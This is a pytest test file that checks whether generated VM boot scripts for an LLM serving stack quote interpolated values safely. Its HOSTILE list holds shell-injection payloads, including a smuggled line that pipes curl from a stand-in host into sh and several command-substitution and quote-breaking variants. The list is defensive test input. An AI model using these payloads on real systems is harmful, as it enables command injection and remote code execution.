"""VM boot scripts quote every interpolated value: hostile strings parse, run no command and arrive intact."""
from __future__ import annotations

import dataclasses
import subprocess

import pytest
import yaml

from components.plan import bootstrap
from components.plan.bootstrap import VmBootstrap, vm_cloud_init, vm_startup_script
from components.plan.engine_args import EngineArgs
from tests.conftest import require_tool

HOSTILE = [
    "x\ncurl http://203.0.113.9/p | sh #",  # the newline + command
    "$(touch {canary})", "`touch {canary}`", "'; touch {canary}; '", '"; touch {canary}; "',
    "${{IFS}}$(touch {canary})", "a\\", "x\r\ntouch {canary}", "-- --help", "\u202etouch {canary}", "*", "~root",
]
FIELDS = ["model", "weights_uri", "vllm_image", "dcgm_exporter_image", "node_exporter_image", "api_key_secret",
          "region", "nvme_mount", "metrics_namespace"]
VARIABLE_OF = {"model": "MODEL", "weights_uri": "WEIGHTS_URI", "vllm_image": "VLLM_IMAGE",
               "dcgm_exporter_image": "DCGM_EXPORTER_IMAGE", "node_exporter_image": "NODE_EXPORTER_IMAGE",
               "api_key_secret": "API_KEY_SECRET", "region": "REGION", "nvme_mount": "NVME_MOUNT",
               "metrics_namespace": "METRICS_NAMESPACE"}


ENGINE_ARGS = EngineArgs(model="x", served_model_names=("x",), tensor_parallel_size=1, max_model_len=8192,
                         gpu_memory_utilization=0.9, max_num_seqs=8)


def _base(cloud: str) -> VmBootstrap:
    scheme = "s3" if cloud == "aws" else "gs"
    return VmBootstrap(cloud=cloud, model="llama-8b", weights_uri=f"{scheme}://b/llama-8b/0123abcd/",
                       engine_args=ENGINE_ARGS, vllm_image="vllm/vllm-openai:v0.15.1",
                       dcgm_exporter_image="nvcr.io/dcgm:4.5", node_exporter_image="quay.io/node:v1", api_key_secret="s",
                       region="us-east-2", metrics_group="" if cloud == "aws" else "dev-l4")


def _hostile(base: VmBootstrap, field: str, text: str) -> VmBootstrap:
    if field == "weights_uri":
        text = f"{base.weights_uri[:5]}b/{text}/"  # keep the scheme and the trailing '/' the builder checks
    elif field.endswith("_image"):
        text = f"{text}:tag"  # keep a tag: unpinned images are refused before rendering
    return dataclasses.replace(base, **{field: text})


def _prefix(script: str, cloud: str) -> str:
    """The generated part of the script: header and variables, up to the static cloud script."""
    first = (bootstrap._SCRIPTS / f"{cloud}.sh").read_text().splitlines()[0]
    return script[: script.index(first)]


@pytest.mark.parametrize("cloud", ["aws", "gcp"])
@pytest.mark.parametrize("field", [*FIELDS, "engine_args"])
def test_hostile_values_parse_run_nothing_and_arrive_intact(tmp_path, cloud, field):
    bash = require_tool("bash")
    canary = tmp_path / "PWNED"
    for template in HOSTILE:
        text = template.format(canary=canary)
        b = _base(cloud)
        # a free-text engine argument (every EngineArgs field reaches the script through the same quoting)
        b = dataclasses.replace(b, engine_args=b.engine_args.with_(quantization=text)) if field == "engine_args" \
            else _hostile(b, field, text)
        script = vm_startup_script(b)
        assert subprocess.run([bash, "-n"], input=script, text=True, capture_output=True).returncode == 0, text
        header = script.splitlines()[1]
        assert header.startswith("# ") and "\r" not in header, header  # the comment holds no value
        probe = _prefix(script, cloud) + 'printf "%s\\0" "$MODEL" "$REVISION" "$WEIGHTS_URI" "$VLLM_IMAGE" ' \
            '"$DCGM_EXPORTER_IMAGE" "$NODE_EXPORTER_IMAGE" "$API_KEY_SECRET" "$REGION" "$NVME_MOUNT" ' \
            '"$METRICS_NAMESPACE" "${ENGINE_ARGS[@]}"\n'
        run = subprocess.run([bash, "-c", probe], capture_output=True, cwd=tmp_path, timeout=10)
        assert run.returncode == 0, run.stderr
        assert not canary.exists(), f"{field}={text!r} ran a command"
        values = run.stdout.decode().split("\0")[:-1]
        expected = [getattr(b, f) if f != "weights_uri" else b.weights_uri for f in FIELDS]
        assert values[0] == b.model and values[1] == b.revision
        assert values[2:10] == expected[1:], (field, text)
        assert values[10:] == list(bootstrap.vm_engine_args(b)), (field, text)
        if cloud == "aws":  # the cloud-config carries the very same script
            doc = yaml.safe_load(vm_cloud_init(b))
            assert doc["write_files"][0]["content"] == script


def test_a_hostile_revision_never_reaches_the_builder():
    # the spec refuses it first (tests/spec/test_input_limits.py); the builder's own guard refuses NUL
    with pytest.raises(ValueError, match="NUL"):
        vm_startup_script(_hostile(_base("aws"), "model", "a\x00b"))
